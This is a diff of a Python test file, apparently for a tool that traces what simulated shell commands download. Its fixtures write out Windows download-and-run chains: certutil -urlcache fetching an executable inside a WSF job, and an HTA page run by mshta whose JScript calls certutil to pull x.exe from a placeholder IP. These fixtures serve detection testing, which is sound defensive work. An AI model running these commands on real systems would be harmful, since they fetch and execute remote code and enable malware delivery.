@@ -232,8 +232,10 @@ def test_a_job_and_a_page_have_their_script_inside() -> None:
     told.run(f'echo x.Run "cmd /c certutil -urlcache -f {URL} y.exe"^</script^>^</job^>^</package^> >> a.wsf')
     told.run("cscript a.wsf")
     assert told.wished == [URL]
-    page = b"<html><body><script>var a='x';</script><script language=\"JScript\">new ActiveXObject('WScript.Shell').Run(" \  # noqa: E501
-           b"'certutil -urlcache -f http://198.51.100.7/a/x.exe z.exe');</script></body></html>"  # fmt: skip
+    page = (
+        b"<html><body><script>var a='x';</script><script language=\"JScript\">new ActiveXObject('WScript.Shell')"
+        b".Run('certutil -urlcache -f http://198.51.100.7/a/x.exe z.exe');</script></body></html>"
+    )
     told = Told(outside={"http://198.51.100.7/a.hta": page, URL: PROGRAM})
     told.run("mshta http://198.51.100.7/a.hta")
     assert told.file("z.exe") == PROGRAM
